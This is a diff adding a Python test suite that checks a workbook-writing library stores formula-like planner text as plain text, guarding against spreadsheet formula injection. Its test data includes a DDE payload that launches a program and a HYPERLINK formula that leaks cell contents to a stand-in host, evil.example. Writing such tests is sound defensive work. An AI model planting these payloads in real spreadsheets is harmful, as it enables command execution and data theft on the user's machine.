@@ -1,0 +1,115 @@
+"""Text written into our workbooks never becomes a formula (SPEC §15, formula injection).
+
+A planner's text that starts with `=`, `+`, `-`, `@`, tab or CR (a pasted "=cmd|' /C calc'!A0"
+or "@SUM(…)", or a harmless "-5% vs plan") must be written as text by every writer: the XML
+of every sheet is read back (zipfile) to prove that no such cell carries an `<f>` and that the
+cell holds the exact text.
+"""
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+
+import python_calamine as calamine
+
+from mom_engine.read import read_book
+from mom_engine.report.files import FORMULA_TRIGGERS, new_workbook
+from mom_engine.report.team_workbook import write_team_workbook
+
+PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def test_every_trigger_is_covered():
+    assert {p[0] for p in PAYLOADS} == set(FORMULA_TRIGGERS)
+
+
+def formulas_in(path: Path) -> list[str]:
+    """The text of every <f> element in every sheet of the package."""
+    found = []
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                found += re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", archive.read(name).decode())
+    return found
+
+
+def cell_values(path: Path) -> dict[str, list[str]]:
+    """Every text cell value per sheet, as a reader sees it (calamine: cached values only)."""
+    workbook = calamine.CalamineWorkbook.from_path(str(path))
+    values = {title: [v for row in workbook.get_sheet_by_name(title).to_python() for v in row
+                      if isinstance(v, str)] for title in workbook.sheet_names}
+    workbook.close()
+    return values
+
+
+def assert_written_as_text(path: Path, payloads: list[str]) -> None:
+    formulas = formulas_in(path)
+    for payload in payloads:
+        body = payload.lstrip("=+-@\t\r")
+        assert not any(body and body in f for f in formulas), (payload, formulas)
+    everything = [v for values in cell_values(path).values() for v in values]
+    for payload in payloads:
+        assert payload in everything, payload
+
+
+def test_new_workbook_writes_formula_like_text_as_text(tmp_path):
+    """Through the generic `write`, `write_row` and a table's data: all strings stay strings."""
+    path = tmp_path / "plain.xlsx"
+    workbook = new_workbook(path)
+    sheet = workbook.add_worksheet("Data")
+    for row, payload in enumerate(PAYLOADS):
+        sheet.write(row, 0, payload)
+    sheet.write_row(0, 1, PAYLOADS)
+    sheet.add_table(20, 0, 20 + len(PAYLOADS), 1, {
+        "columns": [{"header": "Text"}, {"header": "=Header"}],
+        "data": [[p, p] for p in PAYLOADS]})
+    sheet.write(40, 0, "http://example.com")      # no URL guessed
+    sheet.write(41, 0, "00123")                  # no number guessed
+    workbook.close()
+    assert formulas_in(path) == []
+    assert_written_as_text(path, PAYLOADS)
+    values = cell_values(path)["Data"]
+    assert "=Header" in values and "00123" in values and "http://example.com" in values
+    with zipfile.ZipFile(path) as archive:
+        assert not any("hyperlink" in n for n in archive.namelist())
+
+
+def test_the_team_workbook_writer_writes_planner_text_as_text(tmp_path):
+    """Hostile text in Plan values, table cells, an extra column's header and the Lists."""
+    path = write_team_workbook(
+        tmp_path / "team.xlsx", fiscal_year=2027,
+        plan={"Plan ID": "P-1", "Team": PAYLOADS[0], "Owner": PAYLOADS[4]},
+        tables={
+            "Campaigns": [{"Campaign ID": f"C{i}", "Campaign": payload, "Owner": payload,
+                           "=Notes": payload} for i, payload in enumerate(PAYLOADS)],
+            "Activities": [{"Activity ID": "A1", "Campaign ID": "C0", "Activity": PAYLOADS[2],
+                            "GL Account": "610200", "Vendor": PAYLOADS[3]}],
+        },
+        lists={"Vendors": PAYLOADS})
+    assert_written_as_text(path, PAYLOADS + ["=Notes"])
+    # … and our own reader gets the text back (declared text is trimmed, SPEC §3; extra
+    # columns are kept as they are).
+    book = read_book(path)
+    assert book.plan.team == PAYLOADS[0]
+    trimmed = [p.strip() for p in PAYLOADS]
+    assert book.tables["Campaigns"].frame["Campaign"].tolist() == trimmed
+    assert book.tables["Campaigns"].frame["=Notes"].tolist() == PAYLOADS
+    assert book.lists["Vendors"] == trimmed
+
+
+def test_the_template_keeps_its_own_formulas(tmp_path):
+    """The guard is on *text*: the template's real formulas (if any) are untouched, and none
+    of them contains planner text."""
+    path = write_team_workbook(tmp_path / "blank.xlsx", fiscal_year=2027)
+    for formula in formulas_in(path):
+        assert "cmd|" not in formula
